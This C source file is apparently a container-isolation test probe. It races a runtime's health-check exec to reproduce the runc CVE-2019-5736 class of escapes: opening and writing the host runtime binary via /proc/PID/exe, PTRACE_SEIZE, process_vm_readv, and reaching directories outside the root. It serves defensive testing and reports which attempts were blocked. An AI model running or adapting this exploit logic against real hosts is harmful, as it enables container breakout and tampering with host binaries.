/* watch.c: the runtime inside the container (the runc CVE-2019-5736 and
 * CVE-2016-9962 classes). Every health check runs `containerd-lite exec`,
 * whose last process enters the container's pid namespace as the host's
 * runtime binary and execs the check there. Until its execve, the
 * container's root must not reach it: not /proc/PID/exe (the host's
 * binary: overwrite it, or hold it open until the runtime is gone), not
 * ptrace or its memory, not a directory it holds (cwd, root, fds).
 *
 * pids of a namespace are handed out in order: the next process is the
 * highest pid + 1, so scanners spin on that pid's /proc entry and attack
 * it from the moment it appears until it has exec'd (its comm becomes
 * the check's, escape-probe). Several scanners keep the single CPU of a
 * test VM switching, so the runtime is seen mid-setup. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SCANNERS   3
#define DEADLINE_S 90
#define WANT	   4 /* processes caught before their execve, per scanner */

struct tally {
	int seen, caught;
	int exe_reach, exe_memfd, exe_write, ptrace, vm, dirs;
	int exe_err, ptrace_err, vm_err; /* the last refusal's errno */
	char exe_what[160], dir_what[400];
};

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The comm of pid (from /proc/PID/stat, readable whatever its dumpability);
 * 0 when the process is gone. */
static int comm_of(int pid, char *out, size_t size)
{
	char path[64], buf[256], *l, *r;
	int fd;
	ssize_t n;

	fmt(path, sizeof(path), "/proc/%d/stat", pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	l = strchr(buf, '(');
	r = strrchr(buf, ')');
	if (!l || !r || r < l)
		return 0;
	*r = 0;
	fmt(out, size, "%s", l + 1);
	return 1;
}

static int highest_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int max = 0;

	while (d && (e = readdir(d)))
		if (atoi(e->d_name) > max)
			max = atoi(e->d_name);
	if (d)
		closedir(d);
	return max;
}

/* cwd, root and every directory fd of pid. */
static void dirs_of(int pid, struct tally *t)
{
	char path[96], why[768];
	DIR *d;
	struct dirent *e;

	for (int i = 0; i < 2; i++) {
		fmt(path, sizeof(path), "/proc/%d/%s", pid, i ? "cwd" : "root");
		if (judge_path(path, why, sizeof(why)) == ESCAPED && t->dirs++ == 0)
			fmt(t->dir_what, sizeof(t->dir_what), "%s: %s", path, why);
	}
	fmt(path, sizeof(path), "/proc/%d/fd", pid);
	if (!(d = opendir(path)))
		return;
	while ((e = readdir(d))) {
		struct stat st;

		if (e->d_name[0] == '.')
			continue;
		fmt(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
		if (stat(path, &st) == 0 && S_ISDIR(st.st_mode) &&
		    judge_path(path, why, sizeof(why)) == ESCAPED && t->dirs++ == 0)
			fmt(t->dir_what, sizeof(t->dir_what), "%s: %s", path, why);
	}
	closedir(d);
}

/* An fd of pid's executable, if it is not the container's own file: the
 * host's runtime binary (a linked file), or a memfd copy of it (which a
 * runtime makes so that nothing of the host is reachable: not counted). */
static void hold_exe(const char *path, int fd, const struct stat *own, int *held, struct tally *t)
{
	char link[128] = "";
	struct stat st;
	ssize_t n;

	if (fstat(fd, &st) < 0 || (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
		close(fd);
		return;
	}
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = 0;
	*held = fd;
	if (st.st_nlink == 0 || strncmp(link, "/memfd:", 7) == 0) {
		if (t->exe_memfd++ == 0 && !t->exe_reach)
			fmt(t->exe_what, sizeof(t->exe_what), "%s -> %s: a copy, not a host file",
			    path, link);
		return;
	}
	if (t->exe_reach++ == 0)
		fmt(t->exe_what, sizeof(t->exe_what),
		    "%s -> %s: the host's runtime binary, outside the root "
		    "(the CVE-2019-5736 foothold)",
		    path, link);
}

/* 0 if a byte of PATH could be written (its own value back, so that a
 * host binary that lets us is not damaged by the proof); else -1 and
 * *err. Opening is not enough: a sealed memfd copy opens for writing
 * once nothing runs it, and refuses every write (F_SEAL_WRITE). */
static int write_through(const char *path, int *err)
{
	int fd = open(path, O_RDWR | O_CLOEXEC), ret = -1;
	char b = 0;

	if (fd < 0) {
		*err = errno;
		return -1;
	}
	if (pread(fd, &b, 1, 0) == 1 && pwrite(fd, &b, 1, 0) == 1)
		ret = 0;
	else
		*err = errno;
	close(fd);
	return ret;
}

/* One attempt of each kind on pid; *held gets an fd of the runtime's exe. */
static void attack(int pid, const struct stat *own, int *held, struct tally *t)
{
	char path[64], byte;
	struct iovec local = {&byte, 1}, remote = {(void *)0x10000, 1};
	int fd;

	fmt(path, sizeof(path), "/proc/%d/exe", pid);
	if (write_through(path, &t->exe_err) == 0)
		t->exe_write++;
	if (*held < 0 && (fd = open(path, O_PATH | O_CLOEXEC)) >= 0)
		hold_exe(path, fd, own, held, t);
	else if (*held < 0)
		t->exe_err = errno;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
		t->ptrace++;
	else
		t->ptrace_err = errno;
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
		t->vm++;
	else
		t->vm_err = errno;
	dirs_of(pid, t);
}

/* The runtime's binary, held open: once the process has exec'd, nothing
 * keeps it busy (ETXTBSY) any more. */
static void reopen_held(int held, struct tally *t)
{
	char path[64];

	fmt(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < 50; i++) {
		if (write_through(path, &t->exe_err) == 0) {
			t->exe_write++;
			break;
		}
		if (t->exe_err != ETXTBSY)
			break;
		usleep(20000);
	}
	close(held);
}

static void scan(int next, const struct stat *own, struct tally *t)
{
	double end = now() + DEADLINE_S;
	char comm[64];

	while (now() < end && t->caught < WANT) {
		int pid = 0, held = -1;

		for (int k = next; k < next + 3 && !pid; k++)
			if (comm_of(k, comm, sizeof(comm)))
				pid = k;
		if (!pid)
			continue;
		next = pid + 1;
		t->seen++;
		if (strcmp(comm, "escape-probe") == 0)
			continue; /* seen after its execve: too late */
		t->caught++;
		/* bounded: a zombie keeps its comm until reaped */
		for (double stop = now() + 5; now() < stop && comm_of(pid, comm, sizeof(comm)) &&
					      strcmp(comm, "escape-probe") != 0;)
			attack(pid, own, &held, t);
		if (held >= 0)
			reopen_held(held, t);
	}
}

static void verdict(const char *prefix, const char *name, int n, const struct tally *t, int err,
		    const char *what)
{
	char full[48];

	fmt(full, sizeof(full), "%s-%s", prefix, name);
	if (!t->caught)
		report(full, ERROR, "no health-check process was caught before its execve");
	else if (n)
		report(full, ESCAPED, "%d times, in %d processes caught: %s", n, t->caught, what);
	else
		report(full, BLOCKED, "%d processes caught; %s%s%s%s", t->caught,
		       err ? "last refusal: " : "nothing reached outside the root",
		       err ? errname(err) : "",
		       t->exe_memfd && !strcmp(name, "exe-reach") ? "; " : "",
		       t->exe_memfd && !strcmp(name, "exe-reach") ? t->exe_what : "");
}

static void verdicts(const char *prefix, const struct tally *t)
{
	verdict(prefix, "exe-reach", t->exe_reach, t, t->exe_err, t->exe_what);
	verdict(prefix, "exe-write", t->exe_write, t, t->exe_err, "wrote to the runtime's binary");
	verdict(prefix, "ptrace", t->ptrace, t, t->ptrace_err, "PTRACE_SEIZE of the runtime");
	verdict(prefix, "vm-readv", t->vm, t, t->vm_err,
		"process_vm_readv got past the access check on the runtime");
	verdict(prefix, "dirs", t->dirs, t, 0, t->dir_what[0] ? t->dir_what : "");
}

static void add(struct tally *sum, const struct tally *t)
{
	sum->seen += t->seen;
	sum->caught += t->caught;
	sum->exe_write += t->exe_write;
	sum->ptrace += t->ptrace;
	sum->vm += t->vm;
	if (t->exe_reach && !sum->exe_reach)
		memcpy(sum->exe_what, t->exe_what, sizeof(t->exe_what));
	else if (t->exe_memfd && !sum->exe_reach && !sum->exe_memfd)
		memcpy(sum->exe_what, t->exe_what, sizeof(t->exe_what));
	sum->exe_reach += t->exe_reach;
	sum->exe_memfd += t->exe_memfd;
	if (t->dirs && !sum->dirs)
		memcpy(sum->dir_what, t->dir_what, sizeof(t->dir_what));
	sum->dirs += t->dirs;
	sum->exe_err = t->exe_err ? t->exe_err : sum->exe_err;
	sum->ptrace_err = t->ptrace_err ? t->ptrace_err : sum->ptrace_err;
	sum->vm_err = t->vm_err ? t->vm_err : sum->vm_err;
}

int probes_watch(void)
{
	struct tally sum = {0}, t;
	struct stat own;
	int p[2], go[2], next;
	pid_t kids[SCANNERS];

	if (stat("/bin/escape-probe", &own) < 0 || pipe(p) < 0 || pipe(go) < 0) {
		report("hc-watch", ERROR, "setup: %s", errname(errno));
		return 0;
	}
	for (int i = 0; i < SCANNERS; i++) {
		if ((kids[i] = fork()) == 0) {
			memset(&t, 0, sizeof(t));
			close(go[1]);
			if (read(go[0], &next, sizeof(next)) != sizeof(next))
				_exit(1);
			scan(next, &own, &t);
			if (write(p[1], &t, sizeof(t)) != sizeof(t))
				_exit(1);
			_exit(0);
		}
	}
	next = highest_pid() + 1;
	for (int i = 0; i < SCANNERS; i++)
		if (write(go[1], &next, sizeof(next)) != sizeof(next))
			break;
	close(p[1]);
	for (int i = 0; i < SCANNERS; i++)
		if (read(p[0], &t, sizeof(t)) == sizeof(t))
			add(&sum, &t);
	for (int i = 0; i < SCANNERS; i++)
		waitpid(kids[i], NULL, 0);
	dprintf(1, "WATCH scanners=%d seen=%d caught-before-execve=%d\n", SCANNERS, sum.seen,
		sum.caught);
	verdicts("hc", &sum);
	return 0;
}

/* The same, made certain: the health check of container hcexe is an
 * image's script whose interpreter is "/proc/self/exe" (the exploit of
 * CVE-2019-5736). Run by the runtime's exec, the kernel resolves it in the
 * exec'ing process: the runtime's binary is exec'd inside the container,
 * as the container's root. Its argument "--log=FIFO" makes it block
 * opening the log (a FIFO of the container) until the probe, done with
 * its attempts, opens the other end. */
#define HC_FIFO "/tmp/escape-hc-fifo"

static int fifo_ready(void)
{
	struct stat st;

	if (lstat(HC_FIFO, &st) == 0 && S_ISFIFO(st.st_mode))
		return 0;
	unlink(HC_FIFO); /* a check that ran first made a file of it */
	return mkfifo(HC_FIFO, 0600);
}

/* The runtime's log line, once the FIFO is opened for it. */
static void release(char *line, size_t size)
{
	int fd = open(HC_FIFO, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	double end = now() + 10;
	ssize_t n = 0;

	line[0] = 0;
	while (fd >= 0 && now() < end && (n = read(fd, line, size - 1)) <= 0)
		usleep(20000);
	if (fd >= 0)
		close(fd);
	line[n > 0 ? n : 0] = 0;
	line[strcspn(line, "\n")] = 0;
}

/* A process of the container (not the probe) running another file. */
static int find_other(const struct stat *own)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = 0;

	while (d && (e = readdir(d)) && !found) {
		char path[300];
		struct stat st;
		int pid = atoi(e->d_name);

		fmt(path, sizeof(path), "/proc/%d/exe", pid);
		if (pid > 0 && pid != getpid() && stat(path, &st) == 0 &&
		    (st.st_dev != own->st_dev || st.st_ino != own->st_ino))
			found = pid;
	}
	if (d)
		closedir(d);
	return found;
}

int probes_hcexe(void)
{
	struct tally t = {0};
	struct stat own;
	double end = now() + DEADLINE_S;
	char line[512];
	int pid = 0, held = -1;

	if (stat("/bin/escape-probe", &own) < 0 || fifo_ready() < 0) {
		report("hcexe-setup", ERROR, "setup: %s", errname(errno));
		return 0;
	}
	while (now() < end && !(pid = find_other(&own))) {
		fifo_ready();
		usleep(50000);
	}
	if (pid) {
		char comm[64] = "?";

		t.caught = t.seen = 1;
		comm_of(pid, comm, sizeof(comm));
		for (int i = 0; i < 20; i++)
			attack(pid, &own, &held, &t);
		release(line, sizeof(line));
		if (held >= 0)
			reopen_held(held, &t);
		dprintf(1, "WATCH hcexe pid=%d comm=%s log=%s\n", pid, comm, line);
	}
	verdicts("hcexe", &t);
	return 0;
}
